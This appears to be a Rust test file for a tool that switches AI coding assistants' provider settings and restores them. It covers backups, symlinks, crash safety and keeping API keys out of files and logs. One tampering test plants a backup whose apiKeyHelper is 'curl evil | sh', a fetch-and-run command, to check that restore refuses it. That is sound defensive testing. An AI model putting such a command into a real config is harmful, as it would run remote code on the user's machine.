//! Switching an assistant as a user does it, in a temp HOME: the file's unowned content survives, back is byte-identical, refusals write nothing.

use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

use crate::common::*;

/// A real-looking ~/.claude/settings.json: hooks, plugins, status line, permissions, unknown keys.
const CLAUDE_SETTINGS: &str = include_str!("fixtures/assistants/claude-settings.json");

const CODEX_CONFIG: &str = r#"# my codex config
model = "gpt-5-codex"  # default model
approval_policy = "on-request"

[mcp_servers.github]
command = "npx"
args = ["-y", "@modelcontextprotocol/server-github"]

[projects."/home/me/src/app"]
trust_level = "trusted"
"#;

fn settings(env: &Env) -> PathBuf {
    env.home.path().join(".claude/settings.json")
}

fn write_settings(env: &Env, text: &str) -> PathBuf {
    let p = settings(env);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, text).unwrap();
    p
}

fn parsed(p: &PathBuf) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(p).unwrap()).unwrap()
}

fn without_owned(mut v: serde_json::Value) -> serde_json::Value {
    let obj = v.as_object_mut().unwrap();
    obj.remove("apiKeyHelper");
    if let Some(env) = obj.get_mut("env").and_then(|e| e.as_object_mut()) {
        env.retain(|k, _| !weathervane::switch::claude::OWNED_ENV.contains(&k.as_str()));
    }
    v
}

#[test]
fn claude_code_switch_and_back_is_byte_identical() {
    let env = Env::new("");
    let p = write_settings(&env, CLAUDE_SETTINGS);

    // Dry run: shows the change, writes nothing.
    let out = env.run(&["switch", "claude-code", "bedrock", "--dry-run"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(
        text.contains("+ env.CLAUDE_CODE_USE_BEDROCK = \"1\""),
        "{text}"
    );
    assert!(text.contains("dry run"), "{text}");
    assert!(
        text.contains("restarted"),
        "the restart caveat is said: {text}"
    );
    assert_eq!(std::fs::read_to_string(&p).unwrap(), CLAUDE_SETTINGS);

    // The switch: owned keys only.
    let out = env.run(&["switch", "claude-code", "bedrock"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v = parsed(&p);
    assert_eq!(v["env"]["CLAUDE_CODE_USE_BEDROCK"], "1");
    assert_eq!(v["env"]["AWS_REGION"], "us-east-1");
    assert_eq!(
        without_owned(v),
        without_owned(serde_json::from_str(CLAUDE_SETTINGS).unwrap())
    );
    let (_, a) = env.json(&["assistants", "--json"]);
    let claude = a["assistants"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["id"] == "claude-code")
        .unwrap();
    assert_eq!(claude["active_profile"], "bedrock");
    assert_eq!(claude["switched_from"], "anthropic");

    // A backup of the original was made first.
    let (_, b) = env.json(&["backups", "claude-code", "--json"]);
    let backups = b["backups"].as_array().unwrap();
    assert_eq!(backups.len(), 1);
    let backup_path = backups[0]["path"].as_str().unwrap();
    assert_eq!(
        std::fs::read_to_string(backup_path).unwrap(),
        CLAUDE_SETTINGS
    );
    assert_eq!(
        std::fs::metadata(backup_path).unwrap().permissions().mode() & 0o777,
        0o600
    );

    // Back: the exact original bytes.
    let out = env.run(&["switch", "claude-code", "--back"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&p).unwrap(), CLAUDE_SETTINGS);
    let out = env.run(&["switch", "claude-code", "--back"]);
    assert_eq!(out.status.code(), Some(65), "nothing left to undo");
    assert!(
        stderr(&out).contains("no switch to undo"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn back_after_the_assistant_edited_the_file_restores_only_our_keys() {
    let env = Env::new("");
    let p = write_settings(&env, CLAUDE_SETTINGS);
    assert_eq!(
        env.run(&["switch", "claude-code", "ollama"]).status.code(),
        Some(0)
    );
    // Claude Code rewrites the file meanwhile (e.g. the user allowed a tool).
    let mut v = parsed(&p);
    v["permissions"]["allow"]
        .as_array_mut()
        .unwrap()
        .push("Bash(ls)".into());
    std::fs::write(&p, serde_json::to_string_pretty(&v).unwrap()).unwrap();
    let out = env.run(&["switch", "claude-code", "--back"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("restored only the keys"),
        "{}",
        stdout(&out)
    );
    let after = parsed(&p);
    assert!(after["env"].get("ANTHROPIC_BASE_URL").is_none());
    assert!(after["env"].get("ANTHROPIC_AUTH_TOKEN").is_none());
    assert_eq!(
        after["permissions"]["allow"][1], "Bash(ls)",
        "their change is kept"
    );
    assert_eq!(after["hooks"], v["hooks"]);
}

#[test]
fn a_file_that_does_not_parse_is_refused_and_untouched() {
    let env = Env::new("");
    let broken = "{\n  \"env\": {\n    \"A\": \"1\",\n";
    let p = write_settings(&env, broken);
    let out = env.run(&["switch", "claude-code", "bedrock"]);
    assert_eq!(out.status.code(), Some(65));
    let err = stderr(&out);
    assert!(
        err.contains("settings.json") && err.contains("nothing was written"),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(&p).unwrap(), broken);
    let (_, b) = env.json(&["backups", "claude-code", "--json"]);
    assert_eq!(b["backups"].as_array().unwrap().len(), 0);
}

#[test]
fn a_symlinked_settings_file_stays_a_symlink_and_keeps_its_mode() {
    let env = Env::new("");
    let dotfiles = env.home.path().join("dotfiles");
    std::fs::create_dir_all(&dotfiles).unwrap();
    let real = dotfiles.join("claude-settings.json");
    std::fs::write(&real, CLAUDE_SETTINGS).unwrap();
    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o640)).unwrap();
    let link = settings(&env);
    std::fs::create_dir_all(link.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(&real, &link).unwrap();
    assert_eq!(
        env.run(&["switch", "claude-code", "vertex"]).status.code(),
        Some(0)
    );
    assert!(
        std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(parsed(&real)["env"]["CLAUDE_CODE_USE_VERTEX"], "1");
    assert_eq!(
        std::fs::metadata(&real).unwrap().permissions().mode() & 0o777,
        0o640
    );
}

#[test]
fn claude_config_dir_is_followed_and_a_missing_file_is_created_then_removed_on_back() {
    let env = Env::new("");
    let dir = env.home.path().join("elsewhere");
    let out = env
        .command()
        .env("CLAUDE_CONFIG_DIR", &dir)
        .args(["switch", "claude-code", "litellm"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let created = dir.join("settings.json");
    assert_eq!(
        parsed(&created)["env"]["ANTHROPIC_BASE_URL"],
        "http://localhost:4000"
    );
    assert!(!settings(&env).exists());
    let out = env
        .command()
        .env("CLAUDE_CONFIG_DIR", &dir)
        .args(["switch", "claude-code", "--back"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!created.exists(), "it did not exist before the switch");
}

#[test]
fn a_keyring_profile_without_a_reachable_key_is_refused() {
    let env = Env::new("");
    let p = write_settings(&env, CLAUDE_SETTINGS);
    let out = env.run(&["switch", "claude-code", "openrouter"]);
    assert_eq!(out.status.code(), Some(65));
    assert!(stderr(&out).contains("API key"), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&p).unwrap(), CLAUDE_SETTINGS);
}

#[test]
fn an_exported_variable_that_outranks_the_switch_is_warned_about() {
    let env = Env::new("");
    write_settings(&env, CLAUDE_SETTINGS);
    let out = env
        .command()
        .env("ANTHROPIC_BASE_URL", "https://proxy.example")
        .args(["switch", "claude-code", "bedrock", "--dry-run"])
        .output()
        .unwrap();
    assert!(
        stdout(&out).contains("ANTHROPIC_BASE_URL is exported"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn codex_switch_and_back_keeps_comments_and_is_byte_identical() {
    let env = Env::new("");
    let p = env.home.path().join(".codex/config.toml");
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, CODEX_CONFIG).unwrap();
    let out = env.run(&["switch", "codex", "ollama"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = std::fs::read_to_string(&p).unwrap();
    assert!(text.contains("# my codex config"), "{text}");
    assert!(text.contains("approval_policy = \"on-request\""), "{text}");
    assert!(text.contains("[projects.\"/home/me/src/app\"]"), "{text}");
    let doc: toml::Table = toml::from_str(&text).unwrap();
    assert_eq!(doc["model_provider"].as_str(), Some("ollama"));
    assert_eq!(
        doc["model_providers"]["ollama"]["base_url"].as_str(),
        Some("http://localhost:11434/v1")
    );
    assert_eq!(
        doc["model_providers"]["ollama"]["wire_api"].as_str(),
        Some("responses")
    );
    let out = env.run(&["switch", "codex", "--back"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&p).unwrap(), CODEX_CONFIG);
}

/// Issue 18, item 1, with the file as found in a public dotfiles repository.
#[test]
fn codex_switch_to_the_default_keeps_the_comments_above_the_removed_model() {
    let env = Env::new("");
    let p = env.home.path().join(".codex/config.toml");
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    let text = "# my codex settings\n\nmodel = \"gpt-5-codex\"   # the default model\napproval_policy = \"on-request\"\n\n[mcp_servers.github]\ncommand = \"npx\"\n";
    std::fs::write(&p, text).unwrap();
    let out = env.run(&["switch", "codex", "openai"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(&p).unwrap(),
        "# my codex settings\n\napproval_policy = \"on-request\"\n\n[mcp_servers.github]\ncommand = \"npx\"\n"
    );
    let said = stdout(&out);
    assert!(!said.contains("from openai to openai"), "{said}");
    assert!(said.contains("switched to openai"), "{said}");
    let out = env.run(&["switch", "codex", "--back"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&p).unwrap(), text);
}

/// Issue 18, item 4: a provider table with wire_api = "chat" stops Codex 0.151 from starting.
#[test]
fn a_codex_file_with_a_chat_wire_api_is_warned_about() {
    let env = Env::new("");
    let p = env.home.path().join(".codex/config.toml");
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    let text = format!(
        "{CODEX_CONFIG}\n[model_providers.legacy]\nbase_url = \"http://x\"\nwire_api = \"chat\"\n"
    );
    std::fs::write(&p, &text).unwrap();
    let out = env.run(&["switch", "codex", "ollama"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let said = stdout(&out);
    assert!(
        said.contains("Codex will not start with this file"),
        "{said}"
    );
    assert!(said.contains("[model_providers.legacy]"), "{said}");
    let written = std::fs::read_to_string(&p).unwrap();
    assert_eq!(
        written.matches("wire_api = \"chat\"").count(),
        1,
        "{written}"
    );
}

/// `weathervane key set PROFILE` with `input` on standard input.
fn key_set(env: &Env, profile: &str, input: &[u8]) -> std::process::Output {
    use std::io::Write;
    let mut child = env
        .command()
        .args(["key", "set", profile])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // The process may stop reading early (too much input): a broken pipe is fine.
    let _ = child.stdin.take().unwrap().write_all(input);
    child.wait_with_output().unwrap()
}

/// Issue 18, item 18. No keyring is reachable here (no session bus), so each refusal
/// must come before the keyring is asked: a usage error, 64, never 69.
#[test]
fn key_set_refuses_bad_input_with_a_usage_error() {
    let env = Env::new("");
    for (profile, input, says) in [
        ("deepseek", &b""[..], "empty"),
        ("deepseek", b"\n", "empty"),
        ("deepseek", b"sk-one\nsk-two\n", "several lines"),
        ("", b"sk-one\n", "name a profile"),
        (" ", b"sk-one\n", "name a profile"),
    ] {
        let out = key_set(&env, profile, input);
        assert_eq!(
            out.status.code(),
            Some(64),
            "{profile:?} {input:?}: {}",
            stderr(&out)
        );
        assert!(stderr(&out).contains(says), "{}", stderr(&out));
    }
    let out = key_set(&env, "deepseek", &vec![b'k'; 300 * 1024]);
    assert_eq!(out.status.code(), Some(64), "{}", stderr(&out));
    assert!(stderr(&out).contains("too long"), "{}", stderr(&out));
}

/// Issue 18, item 12: `key` is Claude Code's apiKeyHelper; a broken config.toml made
/// it exit 78 before it looked at the keyring.
#[test]
fn key_works_with_a_broken_config() {
    let env = Env::new("[[providers]\nthis is not toml");
    let out = env.run(&["key", "deepseek"]);
    let err = stderr(&out);
    assert_ne!(out.status.code(), Some(78), "{err}");
    // No keyring here: the error is about the keyring, not the config.
    assert_eq!(out.status.code(), Some(69), "{err}");
    assert!(err.contains("keyring"), "{err}");
    assert!(!err.contains("weathervane.toml"), "{err}");
}

#[test]
fn restore_puts_a_backup_back() {
    let env = Env::new("");
    let p = write_settings(&env, CLAUDE_SETTINGS);
    assert_eq!(
        env.run(&["switch", "claude-code", "bedrock"]).status.code(),
        Some(0)
    );
    let (_, b) = env.json(&["backups", "claude-code", "--json"]);
    let name = b["backups"][0]["name"].as_str().unwrap().to_string();
    let out = env.run(&["restore", "claude-code", &name]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&p).unwrap(), CLAUDE_SETTINGS);
    let (_, b) = env.json(&["backups", "claude-code", "--json"]);
    assert_eq!(
        b["backups"].as_array().unwrap().len(),
        2,
        "what was there got a backup too"
    );
    let out = env.run(&["restore", "claude-code", "nope.bak"]);
    assert_eq!(out.status.code(), Some(65));
}

/// Issue 18, item 17: restore wrote back whatever the backup file held.
#[test]
fn restore_refuses_a_tampered_unknown_or_unparseable_backup_and_a_linked_folder() {
    let env = Env::new("");
    let p = write_settings(&env, CLAUDE_SETTINGS);
    assert_eq!(
        env.run(&["switch", "claude-code", "bedrock"]).status.code(),
        Some(0)
    );
    let switched = std::fs::read_to_string(&p).unwrap();
    let (_, b) = env.json(&["backups", "claude-code", "--json"]);
    let name = b["backups"][0]["name"].as_str().unwrap().to_string();
    let backups = env.data.join("backups");
    let backup = backups.join(&name);

    // Tampered: still JSON, not what was backed up.
    std::fs::write(
        &backup,
        "{\"hooks\": {}, \"apiKeyHelper\": \"curl evil | sh\"}",
    )
    .unwrap();
    let out = env.run(&["restore", "claude-code", &name]);
    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("does not hold what the switch history says"),
        "{}",
        stderr(&out)
    );
    assert_eq!(std::fs::read_to_string(&p).unwrap(), switched);

    // Not made by any recorded write.
    let planted = backups.join("claude-code-settings.json-20990101T000000.000Z.bak");
    std::fs::write(&planted, CLAUDE_SETTINGS).unwrap();
    let out = env.run(&[
        "restore",
        "claude-code",
        "claude-code-settings.json-20990101T000000.000Z.bak",
    ]);
    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("not in the switch history"),
        "{}",
        stderr(&out)
    );
    assert_eq!(std::fs::read_to_string(&p).unwrap(), switched);
    std::fs::remove_file(&planted).unwrap();

    // Recorded and unchanged, but not JSON: the file was broken by hand, then a
    // restore backed it up before replacing it.
    std::fs::write(&backup, CLAUDE_SETTINGS).unwrap();
    std::fs::write(&p, "{ broken").unwrap();
    let good = name.clone();
    let out = env.run(&["restore", "claude-code", &good]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&p).unwrap(), CLAUDE_SETTINGS);
    let (_, b) = env.json(&["backups", "claude-code", "--json"]);
    let broken = b["backups"][0]["name"].as_str().unwrap().to_string();
    let out = env.run(&["restore", "claude-code", &broken]);
    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("cannot be edited safely") || stderr(&out).contains("not valid JSON"),
        "{}",
        stderr(&out)
    );

    // A backups folder that is a link is refused.
    let elsewhere = env.home.path().join("elsewhere");
    std::fs::rename(&backups, &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &backups).unwrap();
    let out = env.run(&["restore", "claude-code", &good]);
    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
}

#[test]
fn unknown_assistants_are_a_usage_error() {
    let env = Env::new("");
    let out = env.run(&["switch", "vim", "x"]);
    assert_eq!(out.status.code(), Some(64));
}

/// The owned keys of a parsed settings file, as (key, value) pairs.
fn owned_values(v: &serde_json::Value) -> Vec<(String, serde_json::Value)> {
    let mut out = Vec::new();
    for k in weathervane::switch::claude::OWNED_ENV {
        if let Some(x) = v["env"].get(k) {
            out.push((k.to_string(), x.clone()));
        }
    }
    if let Some(x) = v.get("apiKeyHelper") {
        out.push(("apiKeyHelper".into(), x.clone()));
    }
    out.sort_by(|a, b| a.0.cmp(&b.0));
    out
}

/// Kills a switch at each point of a write where a crash could do harm: after the
/// backup, with the new content in a temp file not yet renamed, and after the
/// rename but before the history says it is done. The child says over its stderr
/// pipe when it stands at the point (WEATHERVANE_TEST_PAUSE_AT), so the kill lands
/// there however busy the machine is (issue 18, item 6: a fixed 0-12 ms window did not).
#[test]
fn sigkill_at_random_moments_never_leaves_a_broken_or_mixed_file() {
    use rand::{Rng, SeedableRng};
    use std::io::BufRead;
    let env = Env::new("");
    let p = write_settings(&env, CLAUDE_SETTINGS);
    // What each profile's owned keys look like once applied: the only states allowed.
    let mut allowed = vec![owned_values(
        &serde_json::from_str(CLAUDE_SETTINGS).unwrap(),
    )];
    let profiles = ["bedrock", "vertex", "ollama", "litellm"];
    for prof in profiles {
        let scratch = Env::new("");
        let sp = write_settings(&scratch, CLAUDE_SETTINGS);
        assert_eq!(
            scratch.run(&["switch", "claude-code", prof]).status.code(),
            Some(0)
        );
        allowed.push(owned_values(&parsed(&sp)));
    }
    let unowned_original = without_owned(serde_json::from_str(CLAUDE_SETTINGS).unwrap());
    let points = ["backed-up", "mid-write", "written"];
    let mut rng = rand::rngs::StdRng::seed_from_u64(0x5eed);
    let mut killed = [0; 3];
    for i in 0..60 {
        let args: Vec<&str> = if i % 4 == 3 {
            vec!["switch", "claude-code", "--back"]
        } else {
            vec![
                "switch",
                "claude-code",
                profiles[rng.random_range(0..profiles.len())],
            ]
        };
        let at = i % points.len();
        let mut child = env
            .command()
            .args(&args)
            .env("WEATHERVANE_TEST_PAUSE_AT", points[at])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // Up to the point, or to the end when this run never gets there (a
        // switch to the profile already on, a back with nothing to undo).
        let stderr = std::io::BufReader::new(child.stderr.take().unwrap());
        let paused = stderr
            .lines()
            .map_while(Result::ok)
            .any(|l| l == format!("paused at {}", points[at]));
        if paused {
            killed[at] += 1;
            child.kill().unwrap(); // SIGKILL
        }
        let _ = child.wait();
        let text = std::fs::read_to_string(&p).unwrap();
        let v: serde_json::Value = serde_json::from_str(&text)
            .unwrap_or_else(|e| panic!("iteration {i}: the file does not parse ({e}):\n{text}"));
        assert_eq!(
            without_owned(v.clone()),
            unowned_original,
            "iteration {i}: unowned content changed"
        );
        assert!(
            allowed.contains(&owned_values(&v)),
            "iteration {i}: owned keys are a mix of profiles: {:?}",
            owned_values(&v)
        );
    }
    assert!(
        killed.iter().all(|&k| k >= 5),
        "kills per point {killed:?}: too few runs reached a point to test it"
    );
    // A run killed mid-write left its temp file; the next writer, holding the lock,
    // removes it (no pid guessing).
    assert_eq!(
        env.run(&["switch", "claude-code", "bedrock"]).status.code(),
        Some(0)
    );
    let litter: Vec<_> = std::fs::read_dir(p.parent().unwrap())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().ends_with(".wv-tmp"))
        .collect();
    assert!(litter.is_empty(), "temp files left: {litter:?}");
    // And back still works from whatever the kills left in the history.
    assert_eq!(
        env.run(&["switch", "claude-code", "--back"]).status.code(),
        Some(0)
    );
}

#[test]
fn keyring_profiles_use_a_real_secret_service_and_never_write_the_key() {
    let env = Env::new("");
    let p = write_settings(&env, CLAUDE_SETTINGS);
    let bin = env!("CARGO_BIN_EXE_weathervane");
    let script = format!(
        r#""$W" switch claude-code deepseek; echo "before-key-exit=$?"
printf 'sk-deepseek-SECRET-42\n' | "$W" key set deepseek || exit 10
"$W" switch claude-code deepseek || exit 11
helper=$(sed -n 's/^ *"apiKeyHelper": "\(.*\)",\{{0,1\}}$/\1/p' "{settings}")
echo "helper=$helper"
# A typo in our config must not cost Claude Code its key (issue 18, item 12).
printf '[[providers]\nbroken\n' >> "$WEATHERVANE_CONFIG"
echo "key=[$(sh -c "$helper")]"
"#,
        settings = p.display()
    );
    let Some(out) = env.run_with_real_keyring(&script) else {
        return;
    };
    let text = stdout(&out);
    let err = stderr(&out);
    assert_eq!(
        out.status.code(),
        Some(0),
        "stdout:\n{text}\nstderr:\n{err}"
    );
    // Before the key was stored, the switch was refused and named the fix.
    assert!(text.contains("before-key-exit=65"), "{text}");
    assert!(err.contains("weathervane key set deepseek"), "{err}");
    // After: the helper is our binary, and running it gives the key.
    assert!(
        text.contains(&format!("helper={bin} key deepseek")),
        "{text}"
    );
    assert!(text.contains("key=[sk-deepseek-SECRET-42]"), "{text}");
    // Printed once, where it was asked for; never logged.
    assert_eq!(text.matches("SECRET-42").count(), 1, "{text}");
    assert!(
        !err.contains("SECRET-42"),
        "the key reached the log:\n{err}"
    );
    // The key is nowhere in our files or the assistant's.
    let settings_text = std::fs::read_to_string(&p).unwrap();
    assert!(!settings_text.contains("SECRET-42"));
    assert_eq!(
        parsed(&p)["env"]["ANTHROPIC_BASE_URL"],
        "https://api.deepseek.com/anthropic"
    );
    for entry in walk(&env.data) {
        let bytes = std::fs::read(&entry).unwrap();
        assert!(
            !bytes.windows(9).any(|w| w == b"SECRET-42"),
            "the key leaked into {}",
            entry.display()
        );
    }
}

#[test]
fn a_project_settings_file_that_outranks_the_switch_is_warned_about() {
    let project = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(project.path().join(".claude")).unwrap();
    std::fs::write(
        project.path().join(".claude/settings.local.json"),
        r#"{ "env": { "ANTHROPIC_BASE_URL": "https://team-proxy.example" } }"#,
    )
    .unwrap();
    let env = Env::new(&format!(
        "[switch]\nproject_dirs = [{:?}]\n",
        project.path().display().to_string()
    ));
    write_settings(&env, CLAUDE_SETTINGS);
    let out = env.run(&["switch", "claude-code", "bedrock", "--dry-run"]);
    let text = stdout(&out);
    assert!(
        text.contains("settings.local.json sets ANTHROPIC_BASE_URL for that project"),
        "{text}"
    );
}

#[test]
fn opencode_jsonc_switch_keeps_comments_and_back_is_byte_identical() {
    let env = Env::new("");
    let dir = env.home.path().join(".config/opencode");
    std::fs::create_dir_all(&dir).unwrap();
    let original = "{\n  // mine\n  \"theme\": \"tokyonight\",\n  \"model\": \"anthropic/claude-sonnet-4-5\",\n}\n";
    let p = dir.join("opencode.jsonc");
    std::fs::write(&p, original).unwrap();
    let out = env
        .command()
        .env("XDG_CONFIG_HOME", env.home.path().join(".config"))
        .args(["switch", "opencode", "ollama"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = std::fs::read_to_string(&p).unwrap();
    assert!(
        text.contains("// mine") && text.contains("\"theme\": \"tokyonight\""),
        "{text}"
    );
    assert!(
        text.contains("\"baseURL\": \"http://localhost:11434/v1\""),
        "{text}"
    );
    let out = env
        .command()
        .env("XDG_CONFIG_HOME", env.home.path().join(".config"))
        .args(["switch", "opencode", "--back"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&p).unwrap(), original);
}
